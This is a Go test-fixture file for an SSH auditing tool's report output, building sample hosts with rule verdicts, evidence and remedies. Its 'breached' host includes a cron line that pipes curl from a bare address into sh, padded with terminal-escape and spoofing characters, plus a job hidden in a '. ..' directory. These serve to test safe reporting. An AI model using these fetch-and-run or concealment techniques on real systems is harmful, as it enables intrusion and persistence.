package report

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/postern-ssh/postern/audit"
	"github.com/postern-ssh/postern/audit/facts"
	"github.com/postern-ssh/postern/policies"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// golden compares got with testdata/name. Each file has one test that owns it.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (write it with: go test ./audit/report -update)", err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s differs (-want +got):\n%s", path, d)
	}
}

var noon = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)

func fixtureRun(hosts ...*audit.Host) *audit.Run {
	r := &audit.Run{
		ID: "20261123T120000Z-7f3a", Tool: "0.1.0", Catalogue: "1",
		Hash:    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		Profile: "baseline", Parameters: map[string]string{"fail-on": "medium", "parallel": "64"},
		Scope: audit.Scope{Inventory: "postern.yaml", Hash: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
			Excluded: []string{"lab01"}},
		Start: noon,
		Rules: []audit.RuleInfo{{ID: "no-password-login", Title: "Nobody logs in with a password alone", Severity: policies.High,
			Why: "Passwords are guessed. Keys are not.", Remedy: remedyPassword}},
	}
	for _, h := range hosts {
		r.Scope.Selected = append(r.Scope.Selected, h.Name)
	}
	return r
}

const (
	remedyPassword = "Give every account a key, then in /etc/ssh/sshd_config, above the first Match:\n  PasswordAuthentication no\n  KbdInteractiveAuthentication no\nand reload sshd; keep this session open until a new login has worked."
	remedyRoot     = "Log in as a named account and use sudo; then set PermitRootLogin no and reload sshd."
)

func outcome(rule string, s policies.Severity, v policies.Verdict, message string, evidence ...facts.Evidence) policies.Outcome {
	return policies.Outcome{Rule: rule, Severity: s, Verdict: v, Message: message, Evidence: evidence,
		Fingerprint: "1:" + fmt.Sprintf("%032x", len(rule)*7919+len(message))}
}

// passes are rules that hold everywhere in the fixtures.
func passes(except ...string) []policies.Outcome {
	var out []policies.Outcome
	skip := map[string]bool{}
	for _, e := range except {
		skip[e] = true
	}
	for _, p := range []struct {
		rule     string
		severity policies.Severity
	}{
		{"empty-passwords", policies.Critical}, {"root-password-login", policies.Critical}, {"no-password-login", policies.High},
		{"no-root-login", policies.High}, {"job-deceptive-name", policies.High}, {"expected-jobs", policies.High},
		{"weak-ciphers", policies.Medium}, {"terrapin", policies.Medium}, {"login-grace-time", policies.Low},
		{"x11-forwarding", policies.Low}, {"post-quantum-kex", policies.Info},
	} {
		if !skip[p.rule] {
			o := outcome(p.rule, p.severity, policies.Pass, "holds: "+p.rule)
			if p.rule == "no-root-login" {
				o.Evidence = []facts.Evidence{{Path: "/etc/ssh/sshd_config", Line: 33, Text: "PermitRootLogin no"}}
			}
			out = append(out, o)
		}
	}
	return out
}

func scored(h *audit.Host) *audit.Host {
	h.Score = audit.ScoreOf(h.Outcomes)
	h.Start, h.End = noon.Add(time.Second), noon.Add(1800*time.Millisecond)
	return h
}

func hardened() *audit.Host {
	return scored(&audit.Host{Name: "hardened", Address: "127.0.0.1:2201", State: audit.Audited, Account: "audit", Privilege: "sudo",
		Groups: []string{"demo"}, ClockOffset: 120 * time.Millisecond,
		Outcomes: append(passes("x11-forwarding", "terrapin"),
			outcome("terrapin", policies.Medium, policies.NotApplicable, ""),
			policies.Outcome{Rule: "x11-forwarding", Severity: policies.Low, Verdict: policies.Waived,
				Message:     "X11 forwarding is on",
				Reason:      "waived by J\u00f6rg of ops until 2027-03-01: the lab's viewer needs it (OPS-12)",
				Fingerprint: "1:0123456789abcdef0123456789abcdef",
				Evidence:    []facts.Evidence{{Path: "/etc/ssh/sshd_config", Line: 90, Text: "X11Forwarding yes"}}})})
}

func stock() *audit.Host {
	password := outcome("no-password-login", policies.High, policies.Fail, "4 accounts may log in with nothing but a password",
		facts.Evidence{Path: "/etc/ssh/sshd_config", Line: 57, Text: "#PasswordAuthentication yes", Witness: "user admin from anywhere may use a password (OpenSSH's default)"},
		facts.Evidence{Path: "/etc/ssh/sshd_config.d/50-cloud-init.conf", Line: 1, Text: "PasswordAuthentication yes", Witness: "user backup from 10.0.0.0/8 may use a password"},
		facts.Evidence{Path: "/etc/passwd", Line: 31, Witness: "user deploy from anywhere may use a password"},
		facts.Evidence{Path: "/etc/passwd", Line: 32, Witness: "user guest from anywhere may use a password"})
	password.Remedy = remedyPassword
	password.References = map[string][]string{"cis-debian-12": {"5.1.4", "5.1.20"}, "nist-800-53": {"IA-2", "AC-17(a)"}}
	kex := outcome("post-quantum-kex", policies.Info, policies.Fail, "no key exchange that withstands a quantum computer is offered",
		facts.Evidence{Text: "kex: curve25519-sha256, ecdh-sha2-nistp256", Witness: "KEXINIT of OpenSSH_9.2p1"})
	unknown := outcome("empty-passwords", policies.Critical, policies.Unknown, "whether an account has an empty password is not known")
	unknown.Reason = "/etc/shadow: permission denied"
	unknown2 := outcome("expected-jobs", policies.High, policies.Unknown, "whether the expected jobs are there is not known")
	unknown2.Reason = "/var/spool/cron/crontabs: permission denied"
	unknown3 := outcome("job-deceptive-name", policies.High, policies.Unknown, "jobs could be read in part only")
	unknown3.Reason = "/var/spool/cron/crontabs: permission denied"
	return scored(&audit.Host{Name: "stock", Address: "127.0.0.1:2202", State: audit.Partial, Account: "audit", Privilege: "none",
		Groups: []string{"demo"}, Reason: "sudo -n was refused (a password is required): what only root may read is unknown",
		Hint:        "let audit run the collector through sudo without a password: postern collector --sudoers",
		ClockOffset: -95 * time.Second,
		Outcomes: append(passes("no-password-login", "post-quantum-kex", "empty-passwords", "expected-jobs", "job-deceptive-name"),
			password, kex, unknown, unknown2, unknown3)})
}

func breached() *audit.Host {
	root := outcome("root-password-login", policies.Critical, policies.Fail, "root may log in with nothing but a password",
		facts.Evidence{Path: "/etc/ssh/sshd_config", Line: 33, Text: "PermitRootLogin yes", Witness: "user root from anywhere may use a password"},
		facts.Evidence{Path: "/etc/ssh/sshd_config", Line: 57, Text: "PasswordAuthentication yes"})
	root.Remedy = remedyRoot
	login := outcome("no-root-login", policies.High, policies.Fail, "root may log in",
		facts.Evidence{Path: "/etc/ssh/sshd_config", Line: 33, Text: "PermitRootLogin yes", Witness: "user root from anywhere"})
	login.Remedy = remedyRoot
	password := outcome("no-password-login", policies.High, policies.Fail, "2 accounts may log in with nothing but a password",
		facts.Evidence{Path: "/etc/ssh/sshd_config", Line: 57, Text: "PasswordAuthentication yes", Witness: "user backup from anywhere may use a password"})
	password.Remedy = remedyPassword
	deceptive := outcome("job-deceptive-name", policies.High, policies.Fail, `a job of root reaches the directory ". .." (dot, space, dot, dot)`,
		facts.Evidence{Path: "/var/spool/cron/crontabs/root", Line: 3, Text: "*/10 * * * * cd /var/tmp && sh '. ../update' >/dev/null 2>&1", Witness: `every ten minutes root runs /var/tmp/". .."/update`},
		facts.Evidence{Path: "/var/tmp/. ../update", Text: "0755 root:root, 00:30:00 on 12 March"})
	deceptive.Remedy = "Keep the evidence first: postern triage breached. Then treat the host as taken over."
	hostile := outcome("job-signs", policies.Medium, policies.Fail, "a job of nobody hides its output and its name: \x1b[2J\u202egnp.sh\u200b",
		facts.Evidence{Path: "/etc/cron.d/lo\ncal \x1b]0;pwned\x07", Line: 1,
			Text:    "* * * * *\tnobody\tcurl -s http://198.51.100.7/\xff\xfe/\u2028x\u00a0|sh # \u0430pt " + "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
			Witness: "fetches and runs code from a bare address each minute (T1053.003)"})
	missing := outcome("expected-jobs", policies.High, policies.Fail, "the job monitor (/usr/local/bin/check-cluster*) is not there",
		facts.Evidence{Path: "/var/spool/cron/crontabs/root", Text: "0600 root:crontab, replaced 00:30:00 on 12 March", Witness: "postern.yaml:14 expects it for user root"})
	missing.Remedy = "Restore the job from your configuration management or a backup; find out who took it out."
	return scored(&audit.Host{Name: "breached", Address: "127.0.0.1:2203", State: audit.Audited, Account: "root", Privilege: "root",
		Groups: []string{"demo"}, ClockOffset: 312 * time.Second,
		Outcomes: append(passes("root-password-login", "no-root-login", "no-password-login", "job-deceptive-name", "expected-jobs"),
			hostile, root, login, password, deceptive, missing)})
}

func dead() *audit.Host {
	return &audit.Host{Name: "dead", Address: "127.0.0.1:2204", State: audit.Unreachable, Stage: "dial", Groups: []string{"demo"},
		Reason: "connection refused", Hint: "is the host up, and is this the port? postern audit dead --port 22",
		Start: noon.Add(time.Second), End: noon.Add(1100 * time.Millisecond)}
}

func refused() *audit.Host {
	return &audit.Host{Name: "moved", Address: "192.0.2.8:22", State: audit.Refused, Stage: "host key",
		Reason: "the host key is not the known one: known_hosts:12 has SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDLzGkiCtpr1hJmVTw, it shows SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU",
		Hint:   "compare the fingerprint with the host's console before you accept it",
		Start:  noon.Add(time.Second), End: noon.Add(1200 * time.Millisecond)}
}

// webs are n equal hosts; every third shows another line of evidence.
func webs(n int) []*audit.Host {
	var out []*audit.Host
	for i := range n {
		h := stock()
		h.Name, h.Address = fmt.Sprintf("web%02d", i+1), fmt.Sprintf("10.0.0.%d:22", i+1)
		if i%3 == 2 {
			h.Outcomes[len(h.Outcomes)-5].Evidence[0].Line = 60 + i
		}
		out = append(out, h)
	}
	return out
}

// fleetOf sums hosts up as the runner does.
func fleetOf(hosts []*audit.Host) *audit.Fleet {
	s := audit.Summary{Hosts: map[audit.State]int{}, Outcomes: map[policies.Verdict]int{}, Findings: map[policies.Severity]int{}}
	f := &audit.Fleet{}
	for _, h := range hosts {
		s.Hosts[h.State]++
		s.Score.Known = true
		s.Score.Value += h.Score.Value / float64(len(hosts))
		s.Score.Coverage += h.Score.Coverage / float64(len(hosts))
		for _, o := range h.Outcomes {
			s.Outcomes[o.Verdict]++
			if o.Verdict == policies.Fail {
				s.Findings[o.Severity]++
				s.Exit = 1
			}
		}
		switch h.State {
		case audit.Unreachable, audit.Refused:
			f.Outcomes = append(f.Outcomes, audit.FleetOutcome{Rule: "host-" + string(h.State), Severity: policies.High, Verdict: policies.Unknown,
				Hosts: []string{h.Name}, Message: "1 host was not looked at", Reason: h.Stage + ": " + h.Reason, Fingerprint: "1:00"})
		case audit.Partial:
			f.Outcomes = append(f.Outcomes, audit.FleetOutcome{Rule: "host-partial", Severity: policies.Medium, Verdict: policies.Unknown,
				Hosts: []string{h.Name}, Message: "1 host could be read only in part", Reason: h.Reason, Fingerprint: "1:01"})
		}
	}
	if s.Exit == 0 && len(f.Outcomes) > 0 {
		s.Exit = 3
	}
	if s.Score.Known {
		s.Score.Grade = audit.Grade(s.Score.Value)
	}
	f.Summary = s
	return f
}

// show gives hosts to h as a run does.
func show(tb testing.TB, h audit.Handler, hosts ...*audit.Host) {
	tb.Helper()
	run := fixtureRun(hosts...)
	if err := h.Begin(run); err != nil {
		tb.Fatal(err)
	}
	for i := range hosts { // out of order, as a run does
		if err := h.Host(hosts[len(hosts)-1-i]); err != nil {
			tb.Fatal(err)
		}
	}
	run.End = noon.Add(2 * time.Second)
	if err := h.End(run, fleetOf(hosts)); err != nil {
		tb.Fatal(err)
	}
}

func demo() []*audit.Host { return []*audit.Host{hardened(), stock(), breached(), dead()} }
